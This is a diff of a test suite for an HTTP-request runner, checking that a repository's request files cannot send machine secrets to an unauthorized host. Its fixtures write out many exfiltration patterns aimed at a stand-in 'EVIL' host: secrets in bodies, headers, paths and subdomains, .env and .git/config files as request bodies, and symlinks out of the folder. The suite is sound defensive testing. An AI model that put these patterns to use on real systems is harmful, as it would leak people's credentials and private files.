@@ -1,5 +1,5 @@
 import assert from 'node:assert/strict';
-import { mkdir, rm, symlink, writeFile } from 'node:fs/promises';
+import { mkdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
 import os from 'node:os';
 import path from 'node:path';
 import { after, beforeEach, describe, it } from 'mocha';
@@ -8,6 +8,9 @@ import { useProgram } from './program';
 
 const secret = 'hush "hush" & s3cret/value+1';
 const base64 = Buffer.from(`user:${secret}`).toString('base64');
+
+/** The token of a response. */
+const received = 'token.of.a.response.2026';
 
 /** A way to take a secret to a host that nobody allowed. */
 interface Way {
@@ -26,6 +29,10 @@ interface Way {
   env?: Record<string, string>;
   /** The first request may reach the application. */
   isSentToApplication?: boolean;
+  /** Why nothing is sent; otherwise because a secret would leave for the other host. */
+  says?: RegExp;
+  /** 2 otherwise. */
+  code?: number;
 }
 
 const echo = '# @name echo\nPOST APP/hserve/v1/echo/\nContent-Type: text/plain\n\n{{$secret key}}\n\n';
@@ -39,13 +46,16 @@ const echoed = (encode: (text: string) => unknown): Pick<Way, 'text' | 'respond'
 const ways: Record<string, Way> = {
   'directly in a body': { text: 'POST EVIL/\n\n{{$secret key}}' },
   'in a header': { text: 'GET EVIL/\nX-A: {{$secret key}}' },
-  'in a path': { text: 'GET EVIL/{{$secret key}}/' },
-  'in a host': { text: 'GET https://{{$secret key}}.example.com/' },
+  'in a path': { text: 'GET EVIL/{{$secret key}}/', says: /does not belong in an address/ },
+  'in a host': { text: 'GET https://{{$secret key}}.example.com/', says: /does not belong in an address/ },
   'through a variable': { text: '@a = {{$secret key}}\nPOST EVIL/\n\n{{a}}' },
   'in a part of a form': {
     text: 'POST EVIL/\nContent-Type: multipart/form-data; boundary=x\n\n--x\nContent-Disposition: form-data; name="a"\n\n{{$secret key}}\n--x--',
   },
-  'an environment variable that nobody allowed': { text: 'POST EVIL/\n\n{{$processEnv OWN}}' },
+  'an environment variable that nobody allowed': {
+    text: 'POST APP/hserve/v1/a/\n\n{{$processEnv OWN}}',
+    says: /needs --allow-env OWN/,
+  },
   'an allowed environment variable': { text: 'POST EVIL/\n\n{{$processEnv OWN}}', args: ['--allow-env', 'OWN'] },
   'through a response': echoed(text => text),
   'through a response, as base64': echoed(text => Buffer.from(`user:${text}`).toString('base64')),
@@ -90,32 +100,67 @@ const ways: Record<string, Way> = {
   'through the settings of the repository: another application': {
     text: 'POST /hserve/v1/a/\n\n{{$secret key}}',
     env: { HYDROGEN_CLIENT_ID: 'client-of-the-owner' },
+    says: /is for client-1, but HYDROGEN_CLIENT_ID is client-of-the-owner/,
   },
   'through the settings of the repository: a proxy': {
     text: 'POST /hserve/v1/a/\n\n{{$secret key}}',
     application: { proxy: 'EVIL' },
+    says: /has application\.proxy, which is not a known setting/,
   },
   'a value of .env that the document calls public, through a response': {
     ...echoed(text => text),
     text: later('{{echo.response.body.said}}').replace('$secret key', '$dotenv KEY public'),
-    files: { '.env': `KEY='${secret}'` },
+    files: { '.env': "KEY='another value of the machine'" },
+  },
+  'a token that a response brought, in base64': {
+    text: later('{{echo.response.body.said}}'),
+    respond: () => ({ token: received, said: Buffer.from(`user:${received}`).toString('base64') }),
+    isSentToApplication: true,
   },
   'a file .env that is a link': {
-    text: 'POST EVIL/\n\n{{$dotenv OUTSIDE}}',
+    text: 'POST EVIL/\n\n{{$dotenv OUTSIDE public}}',
     links: { '.env': 'OUTSIDE/env' },
+    says: /\.env leads out of its folder/,
   },
-  'a file .env as the body': { text: 'POST EVIL/\n\n< ./.env', files: { '.env': `A=${secret}` } },
-  'a file of Git as the body': { text: 'POST EVIL/\n\n< ./.git/config', files: { '.git/config': `token ${secret}` } },
-  'a file behind a link as the body': { text: 'POST EVIL/\n\n< ./link', links: { link: 'OUTSIDE/env' } },
+  'a value of .env, also of one that the run does not know yet': {
+    text: 'POST EVIL/\n\n{{$dotenv KEY}}',
+    files: { '.env': 'KEY=another value of the machine' },
+  },
+  'a file .env as the body': {
+    text: 'POST EVIL/\n\n< ./.env',
+    files: { '.env': 'A=unknown to the run' },
+    says: /the file \.\/\.env would go to/,
+  },
+  'a file of Git as the body': {
+    text: 'POST EVIL/\n\n< ./.git/config',
+    files: { '.git/config': 'unknown to the run' },
+    says: /the file \.\/\.git\/config would go to/,
+  },
+  'a file behind a link as the body': {
+    text: 'POST EVIL/\n\n< ./link',
+    links: { link: 'OUTSIDE/kept' },
+    says: /The file \.\/link cannot be read/,
+  },
   'a report through a link': {
-    text: 'POST EVIL/\n\n{{$secret key}}',
+    text: 'GET APP/hserve/v1/a/',
     args: ['--junit', 'report.xml'],
     links: { 'report.xml': 'OUTSIDE/kept' },
+    isSentToApplication: true,
+    says: /The report report\.xml cannot be written/,
   },
   'a report through the link of a folder': {
-    text: 'POST EVIL/\n\n{{$secret key}}',
+    text: 'GET APP/hserve/v1/a/',
     args: ['--junit', 'reports/kept'],
     links: { reports: 'OUTSIDE' },
+    isSentToApplication: true,
+    says: /The report reports\/kept cannot be written/,
+  },
+  'a snapshot through a link': {
+    text: 'GET APP/hserve/v1/a/\n\n?? snapshot',
+    links: { 'a.hydrogen.http.snapshots.json': 'OUTSIDE/kept' },
+    isSentToApplication: true,
+    says: /The snapshot file cannot be read or written/,
+    code: 1,
   },
 };
 
@@ -162,7 +207,10 @@ describe('a repository that wants the secrets of the machine', () => {
       };
       const { code, out, errors } = await run(['--env', 'Staging', ...(way.args ?? [])], env);
       for (const file of Object.keys({ ...way.files, ...way.links })) await rm(inFolder(file), { force: true });
-      assert.equal(code, 2, out + errors);
+      assert.equal(code, way.code ?? 2, out + errors);
+      const { host } = new URL(evil.origin);
+      assert.match(`${out}${errors}`, way.says ?? new RegExp(`It was not sent, because .* would go to ${host}\\.`));
+      assert.equal(await readFile(path.join(outside, 'kept'), 'utf8'), 'kept');
       assert.deepEqual(evil.received, [], out + errors);
       if (way.isSentToApplication !== true) assert.deepEqual(application.received, []);
       assert.ok(!`${out}${errors}`.includes('s3cret'), out + errors);
